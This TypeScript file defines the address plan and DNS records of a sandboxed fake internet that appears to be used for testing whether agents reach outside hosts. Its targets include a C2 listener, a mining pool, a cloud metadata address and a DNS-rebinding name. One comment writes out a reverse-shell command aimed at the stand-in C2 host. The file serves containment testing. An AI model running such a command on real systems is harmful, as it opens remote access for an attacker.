// The fixed plan of the fake internet. Every address here lives only inside the test's own
// namespaces (TEST-NET ranges, plus a 10.99.0.0/24 and link-local "internal" target placed on
// inet's lo), so a scenario that reaches one of them has provably not left the machine.

export const HOST_IP = '198.51.100.1';
export const INET_IP = '198.51.100.2';
export const LINK_PREFIX = 24;

export interface ServerAddress {
  ip: string;
  port: number;
  name: string;
}

export const SERVERS = {
  web: { ip: '203.0.113.10', port: 80, name: 'web.example.test' },
  tls: { ip: '203.0.113.11', port: 443, name: 'tls.example.test' },
  // A mining pool listens on its classic port and on 443, because miners hide in HTTPS's port.
  stratum: { ip: '203.0.113.20', port: 3333, name: 'pool.example.test', ports: [3333, 443] },
  ssh: { ip: '203.0.113.30', port: 22, name: 'ssh.example.test', user: 'root' },
  jsonrpc: { ip: '203.0.113.40', port: 8545, name: 'rpc.example.test' },
  dns: { ip: '192.0.2.53', port: 53, name: 'ns.example.test' },
  // An attacker's listener for reverse shells (`bash -i >& /dev/tcp/203.0.113.50/4444 0>&1`).
  sink: { ip: '203.0.113.50', port: 4444, name: 'c2.example.test', ports: [4444, 9001] },
  // SSRF / lateral-movement targets: what a probing agent would try to reach.
  internal: { ip: '10.99.0.10', port: 80, name: 'internal.example.test' },
  metadata: { ip: '169.254.169.254', port: 80, name: 'metadata.example.test' },
} as const;

export type ServerName = keyof typeof SERVERS;
export const SERVER_NAMES = Object.keys(SERVERS) as ServerName[];

/** Addresses that are routed to inet but where nothing listens and nothing is forwarded. */
export const UNUSED_IP = '203.0.113.99';

/**
 * A records of the test DNS server. Keys are lower-case names; `*.x` matches any name ending
 * in `.x` (not `x` itself). Anything else is NXDOMAIN and is never forwarded anywhere.
 */
export const DNS_RECORDS: Record<string, string> = {
  'example.test': SERVERS.web.ip,
  'web.example.test': SERVERS.web.ip,
  'www.example.test': SERVERS.web.ip,
  'api.example.test': SERVERS.web.ip,
  'pkgs.example.test': SERVERS.web.ip,
  '*.mirror.example.test': SERVERS.web.ip,
  'tls.example.test': SERVERS.tls.ip,
  'secure.example.test': SERVERS.tls.ip,
  'pool.example.test': SERVERS.stratum.ip,
  'xmr.pool.example.test': SERVERS.stratum.ip,
  'ssh.example.test': SERVERS.ssh.ip,
  'tunnel.example.test': SERVERS.ssh.ip,
  'rpc.example.test': SERVERS.jsonrpc.ip,
  'chain.example.test': SERVERS.jsonrpc.ip,
  'ns.example.test': SERVERS.dns.ip,
  'internal.example.test': SERVERS.internal.ip,
  // DNS rebinding: a public-looking name that resolves to an internal address.
  'rebind.example.test': SERVERS.internal.ip,
  'metadata.example.test': SERVERS.metadata.ip,
  'c2.example.test': SERVERS.sink.ip,
};

/** Every address put on inet's lo, deduplicated. */
export function inetLoopbackIps(): string[] {
  return [...new Set(Object.values(SERVERS).map((s) => s.ip))];
}
